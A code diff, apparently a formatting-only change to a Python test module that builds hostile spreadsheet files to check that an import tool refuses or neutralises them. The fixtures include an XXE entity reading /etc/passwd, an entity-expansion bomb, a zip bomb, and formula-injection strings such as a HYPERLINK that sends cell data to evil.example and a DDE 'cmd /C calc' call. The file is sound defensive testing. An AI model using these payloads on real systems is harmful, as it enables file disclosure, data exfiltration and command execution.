@@ -5,6 +5,7 @@ process (``lob-kompas initiatives-import --dry-run`` through :func:`recommender.
 and reports the wall time, the peak memory of that process (``VmHWM``) and the outcome. The tests use
 the same files (smaller where the size does not matter).
 """
+
 from __future__ import annotations
 
 import json
@@ -39,8 +40,10 @@ _WB_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
 <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
 </Relationships>"""
-_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-               '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+_SHEET_HEAD = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+)
 _SHEET_TAIL = "</sheetData></worksheet>"
 
 
@@ -49,8 +52,9 @@ def _row(n: int, *cells: str) -> str:
     return f'<row r="{n}">{inner}</row>'
 
 
-def _xlsx(path: Path, sheet_xml: str | None = None, extra: dict[str, bytes] | None = None,
-          sheet_stream: Any = None) -> Path:
+def _xlsx(
+    path: Path, sheet_xml: str | None = None, extra: dict[str, bytes] | None = None, sheet_stream: Any = None
+) -> Path:
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
         z.writestr("[Content_Types].xml", _CONTENT_TYPES)
         z.writestr("_rels/.rels", _RELS)
@@ -84,12 +88,15 @@ def zip_bomb(path: Path, unpacked_mb: int = 1024) -> Path:
 
 def xxe(path: Path) -> Path:
     """An external entity that would read a local file, and an entity expansion bomb."""
-    sheet = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
-             '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
-             '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
-             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-             + _row(1, "naam", "schooltype", "activiteit", "praktijk") + _row(2, "&xxe;&c;", "vmbo", "gastles", "veel")
-             + _SHEET_TAIL)
+    sheet = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
+        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        + _row(1, "naam", "schooltype", "activiteit", "praktijk")
+        + _row(2, "&xxe;&c;", "vmbo", "gastles", "veel")
+        + _SHEET_TAIL
+    )
     return _xlsx(path, sheet)
 
 
@@ -111,6 +118,7 @@ def big(path: Path, mb: int = 30) -> Path:
 
 def many_rows(path: Path, rows: int = 25_000) -> Path:
     """An xlsx with ``rows`` good rows (more than the cap)."""
+
     def stream() -> Any:
         yield (_SHEET_HEAD + _row(1, "naam", "schooltype", "activiteit", "praktijk")).encode()
         for i in range(2, rows + 2):
@@ -120,8 +128,16 @@ def many_rows(path: Path, rows: int = 25_000) -> Path:
     return _xlsx(path, sheet_stream=stream())
 
 
-FORMULA_TEXTS = ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                 "+31 10 123 4567", "-2+3", "\t=1+1", " =2+2", "\r=3+3")
+FORMULA_TEXTS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+31 10 123 4567",
+    "-2+3",
+    "\t=1+1",
+    " =2+2",
+    "\r=3+3",
+)
 
 
 def formulas(path: Path) -> Path:
@@ -131,8 +147,17 @@ def formulas(path: Path) -> Path:
     book = Workbook()
     ws = book.active
     ws.append(["Naam", "Schooltype", "Soort activiteit", "Zelf doen", "Organisator", "Website", "Plaats"])
-    ws.append(["Formule-naam", "vmbo", "gastles", "veel", "=HYPERLINK(\"http://evil.example\",\"x\")",
-               "=cmd|' /C calc'!A0", "Rotterdam"])  # real formula cells (openpyxl writes '=...' as a formula)
+    ws.append(
+        [
+            "Formule-naam",
+            "vmbo",
+            "gastles",
+            "veel",
+            '=HYPERLINK("http://evil.example","x")',
+            "=cmd|' /C calc'!A0",
+            "Rotterdam",
+        ]
+    )  # real formula cells (openpyxl writes '=...' as a formula)
     for i, text in enumerate(FORMULA_TEXTS):
         ws.append([f"Tekst {i}", "vmbo", "gastles", "veel", text, "", "Rotterdam"])
         ws.cell(row=ws.max_row, column=5).data_type = "s"  # a text cell that starts like a formula
@@ -210,29 +235,56 @@ def measure_hostile(folder: Path, home: Path) -> list[HostileResult]:
         env = dict(os.environ, LOB_HOME=str(home / path.stem))
         env.pop("LOB_DATABASE_URL", None)
         t = time.perf_counter()
-        done = subprocess.run([sys.executable, "-c", _PROBE, str(path)], env=env, capture_output=True, text=True,
-                              timeout=300, check=False)
+        done = subprocess.run(
+            [sys.executable, "-c", _PROBE, str(path)], env=env, capture_output=True, text=True, timeout=300, check=False
+        )
         wall = time.perf_counter() - t
         if done.returncode != 0:
-            out.append(HostileResult(file=what, size_mb=path.stat().st_size / 2**20, outcome="CRASH",
-                                     detail=done.stderr[-300:], import_s=wall, wall_s=wall, peak_rss_mb=0,
-                                     within_limits=False))
+            out.append(
+                HostileResult(
+                    file=what,
+                    size_mb=path.stat().st_size / 2**20,
+                    outcome="CRASH",
+                    detail=done.stderr[-300:],
+                    import_s=wall,
+                    wall_s=wall,
+                    peak_rss_mb=0,
+                    within_limits=False,
+                )
+            )
             continue
         data = json.loads(done.stdout.strip().splitlines()[-1])
-        ok = data["outcome"] in ("refused", "neutralised") and data["import_s"] <= TIME_LIMIT_S \
+        ok = (
+            data["outcome"] in ("refused", "neutralised")
+            and data["import_s"] <= TIME_LIMIT_S
             and data["peak_rss_mb"] <= RSS_LIMIT_MB
-        out.append(HostileResult(file=what, size_mb=round(path.stat().st_size / 2**20, 2), outcome=data["outcome"],
-                                 detail=data["detail"], import_s=round(data["import_s"], 2), wall_s=round(wall, 2),
-                                 peak_rss_mb=round(data["peak_rss_mb"], 1), within_limits=ok))
+        )
+        out.append(
+            HostileResult(
+                file=what,
+                size_mb=round(path.stat().st_size / 2**20, 2),
+                outcome=data["outcome"],
+                detail=data["detail"],
+                import_s=round(data["import_s"], 2),
+                wall_s=round(wall, 2),
+                peak_rss_mb=round(data["peak_rss_mb"], 1),
+                within_limits=ok,
+            )
+        )
     return out
 
 
 def format_hostile(rows: list[HostileResult]) -> str:
-    lines = [f"| file | size | outcome | import s | process wall s | peak RSS MB | within {TIME_LIMIT_S:g} s / "
-             f"{RSS_LIMIT_MB:g} MB |", "|---|---|---|---|---|---|---|"]
+    lines = [
+        f"| file | size | outcome | import s | process wall s | peak RSS MB | within {TIME_LIMIT_S:g} s / "
+        f"{RSS_LIMIT_MB:g} MB |",
+        "|---|---|---|---|---|---|---|",
+    ]
     for r in rows:
-        lines.append(f"| {r.file} | {r.size_mb:.2f} MB | {r.outcome}: {r.detail[:90]} | {r.import_s} | {r.wall_s} | "
-                     f"{r.peak_rss_mb} | {'yes' if r.within_limits else 'NO'} |")
+        lines.append(
+            f"| {r.file} | {r.size_mb:.2f} MB | {r.outcome}: {r.detail[:90]} | {r.import_s} | {r.wall_s} | "
+            f"{r.peak_rss_mb} | {'yes' if r.within_limits else 'NO'} |"
+        )
     return "\n".join(lines)
 
 
